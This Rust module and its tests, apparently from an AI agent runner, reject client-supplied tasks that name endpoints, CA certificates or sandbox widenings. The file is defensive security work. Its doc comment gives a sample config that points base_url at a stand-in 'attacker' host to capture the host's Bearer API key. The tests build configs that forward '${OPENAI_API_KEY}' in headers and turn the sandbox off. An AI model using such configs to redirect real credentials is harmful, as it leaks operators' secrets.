//! The rule for a task a client sends (`agentry mcp`'s inline `run_task`, the
//! service's `POST /runs`): it may not choose where this host's secrets go.
//!
//! A model policy sends the host's API key (`OPENAI_API_KEY`, ...) to its
//! server, and an MCP server reached by URL gets its headers with `${VAR}`
//! read from the host's environment. In a task the operator wrote, the
//! operator chose those endpoints; in a task a client wrote, the client
//! would: `policy = {model = "openai:x", base_url = "http://attacker"}` sends
//! `Authorization: Bearer <the host's key>` there. So every field that names
//! an endpoint or what it is trusted by is refused in such a task, unless the
//! operator opts in on the surface that takes it.

use agentry_mcp::McpTransport;

use crate::TASK_FILE;
use crate::error::TaskError;
use crate::spec::{ChildModelSpec, TaskSpec};

impl TaskSpec {
    /// The fields of this task that choose where the host's keys, headers or
    /// trust go, in file order: `policy.base_url`, `policy.ca_cert`,
    /// `policy.fallback[i].base_url`, `policy.models.NAME.base_url`,
    /// `tools.mcp[i].url` (with its `headers` and `ca_cert`), `tools.a2a[i].url`
    /// (the same: its headers' `${VAR}`s are the host's). A model or
    /// fallback named without a server goes to its provider's API, as the
    /// operator's environment configures it, and is not listed; neither is a
    /// stdio MCP server (it gets only the environment allowlist, as a command
    /// tool does).
    pub fn client_endpoints(&self) -> Vec<String> {
        let mut fields = Vec::new();
        if self.base_url.is_some() {
            fields.push("policy.base_url".to_string());
        }
        if self.ca_cert.is_some() {
            fields.push("policy.ca_cert".to_string());
        }
        for (i, fallback) in self.fallback.iter().enumerate() {
            if fallback.base_url.is_some() {
                fields.push(format!("policy.fallback[{i}].base_url"));
            }
        }
        for (name, child) in &self.child_models {
            match child {
                ChildModelSpec::Model {
                    base_url: Some(_), ..
                } => fields.push(format!("policy.models.{name}.base_url")),
                ChildModelSpec::Model { base_url: None, .. } | ChildModelSpec::Script(_) => {}
            }
        }
        for (i, server) in self.mcp_servers.iter().enumerate() {
            match &server.transport {
                McpTransport::Http { .. } => fields.push(format!("tools.mcp[{i}].url")),
                McpTransport::Stdio { .. } => {}
            }
        }
        fields.extend((0..self.a2a_agents.len()).map(|i| format!("tools.a2a[{i}].url")));
        fields
    }

    /// Refuses a task a client sent that names an endpoint
    /// ([`TaskSpec::client_endpoints`]): [`TaskError::ClientEndpoint`],
    /// naming every such field. Call it only where the operator has not
    /// opted in.
    pub fn check_client_supplied(&self) -> Result<(), TaskError> {
        let fields = self.client_endpoints();
        if fields.is_empty() {
            return Ok(());
        }
        Err(TaskError::ClientEndpoint {
            file: self.dir.join(TASK_FILE),
            fields,
        })
    }
}

impl TaskSpec {
    /// The `[sandbox]` keys of this task, and of its tools' overrides, that
    /// reach past the default sandbox (`sandbox.mode`,
    /// `tools.command[0].sandbox.network`, ...; see
    /// [`agentry_sandbox::SandboxSpec::widenings`]), in file order.
    pub fn client_sandbox_widenings(&self) -> Vec<String> {
        let mut fields: Vec<String> = self
            .sandbox
            .widenings()
            .into_iter()
            .map(|key| format!("sandbox.{key}"))
            .collect();
        let tools = self
            .command_tools
            .iter()
            .enumerate()
            .filter_map(|(i, tool)| Some((format!("tools.command[{i}]"), tool.sandbox.as_ref()?)));
        let servers = self
            .mcp_servers
            .iter()
            .enumerate()
            .filter_map(|(i, server)| Some((format!("tools.mcp[{i}]"), server.sandbox.as_ref()?)));
        for (at, over) in tools.chain(servers) {
            let effective = self.sandbox.with_override(over);
            fields.extend(
                effective
                    .widenings()
                    .into_iter()
                    .map(|key| format!("{at}.sandbox.{key}")),
            );
        }
        fields
    }

    /// Refuses a task a client sent that loosens the kernel sandbox
    /// ([`TaskSpec::client_sandbox_widenings`]): [`TaskError::ClientSandbox`],
    /// naming every such field. Narrowing is allowed. No opt-in: only the
    /// operator's own tasks widen the sandbox.
    pub fn check_client_sandbox(&self) -> Result<(), TaskError> {
        let fields = self.client_sandbox_widenings();
        if fields.is_empty() {
            return Ok(());
        }
        Err(TaskError::ClientSandbox {
            file: self.dir.join(TASK_FILE),
            fields,
        })
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use std::path::Path;

    use crate::{TaskError, TaskSpec};

    fn spec(text: &str) -> TaskSpec {
        TaskSpec::parse(text, Path::new("/nowhere/inline")).unwrap()
    }

    #[test]
    fn a_clients_task_may_narrow_the_sandbox_but_not_loosen_it() {
        let narrow = spec(
            "goal = \"g\"\n[sandbox]\nmode = \"read-only\"\nprocesses = 8\n[[tools.command]]\nname = \"t\"\ndescription = \"d\"\nargv = [\"true\"]\nsandbox = { memory = \"1GiB\" }\n",
        );
        assert!(narrow.check_client_sandbox().is_ok());
        let wide = spec(
            "goal = \"g\"\n[sandbox]\nmode = \"off\"\n[[tools.command]]\nname = \"t\"\ndescription = \"d\"\nargv = [\"true\"]\nsandbox = { network = true }\n",
        );
        assert_eq!(
            wide.client_sandbox_widenings(),
            [
                "sandbox.mode",
                "tools.command[0].sandbox.mode",
                "tools.command[0].sandbox.network"
            ]
        );
        match wide.check_client_sandbox() {
            Err(e @ TaskError::ClientSandbox { .. }) => {
                let text = e.to_string();
                assert!(text.contains("sandbox.mode, tools.command[0]"), "{text}");
                assert!(text.contains("may only narrow"), "{text}");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn every_field_that_names_an_endpoint_is_refused_by_name() {
        let task = spec(
            r#"
goal = "g"
[policy]
model = "openai:x"
base_url = "http://127.0.0.1:9/v1"
fallback = ["anthropic:y", { model = "openai:z", base_url = "http://127.0.0.1:9/v1" }]
[policy.models.near]
model = "openai:x"
[policy.models.far]
model = "openai:x"
base_url = "http://127.0.0.1:9/v1"
[[tools.mcp]]
name = "local"
command = ["true"]
[[tools.mcp]]
name = "remote"
url = "http://127.0.0.1:9/mcp"
headers = { Authorization = "Bearer ${OPENAI_API_KEY}" }
[[tools.a2a]]
name = "billing"
url = "http://127.0.0.1:9/agent-card.json"
"#,
        );
        let fields = [
            "policy.base_url",
            "policy.fallback[1].base_url",
            "policy.models.far.base_url",
            "tools.mcp[1].url",
            "tools.a2a[0].url",
        ];
        assert_eq!(task.client_endpoints(), fields);
        match task.check_client_supplied() {
            Err(e @ TaskError::ClientEndpoint { .. }) => {
                let text = e.to_string();
                assert!(
                    text.starts_with(&format!(
                        "/nowhere/inline/task.toml: {}: ",
                        fields.join(", ")
                    )),
                    "{text}"
                );
            }
            other => panic!("expected ClientEndpoint, got {other:?}"),
        }
    }

    #[test]
    fn a_ca_cert_is_an_endpoint_field_too() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("ca.pem"), "").unwrap();
        let task = TaskSpec::parse(
            "goal = \"g\"\n[policy]\nmodel = \"openai:x\"\nca_cert = \"ca.pem\"\n",
            dir.path(),
        )
        .unwrap();
        assert_eq!(task.client_endpoints(), ["policy.ca_cert"]);
    }

    #[test]
    fn models_by_provider_scripts_and_stdio_servers_are_the_operators_endpoints() {
        let task = spec(
            r#"
goal = "g"
[policy]
model = "openai:x"
fallback = ["anthropic:y", { model = "openai:z" }]
[policy.models.child]
script = "child.json"
[[tools.mcp]]
name = "local"
command = ["true"]
"#,
        );
        assert!(task.client_endpoints().is_empty());
        task.check_client_supplied().unwrap();
    }
}
